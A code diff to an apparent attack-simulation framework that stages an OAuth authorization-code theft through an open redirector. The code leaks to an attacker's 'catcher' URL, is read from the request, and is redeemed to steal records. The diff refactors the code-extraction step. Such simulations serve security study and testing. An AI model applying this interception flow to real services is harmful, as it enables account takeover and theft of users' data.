@@ -32,9 +32,10 @@ async function* run(scene: Scene): AsyncGenerator<Step, Refusal | undefined, voi
   const redirected = (await victim.follow(landing.exchange))!
   yield step('authorization_response', { exchange: redirected, note: 'the code comes to the login page' })
   if (!redirectTarget(redirected)?.startsWith(catcher)) return scene.refusal(redirected)
-  yield step('code_arrival', { exchange: (await victim.follow(redirected))! })
+  const arrived = (await victim.follow(redirected))!
+  yield step('code_arrival', { exchange: arrived })
 
-  const code = parameterOf(site.visits.at(-1)!.url, 'code')
+  const code = parameterOf(arrived.request.url, 'code')
   if (code === undefined) return { ...REDIRECTOR, detail: 'the redirect left the code behind' }
   return yield* stealRecords(scene, redeem(code))
 }
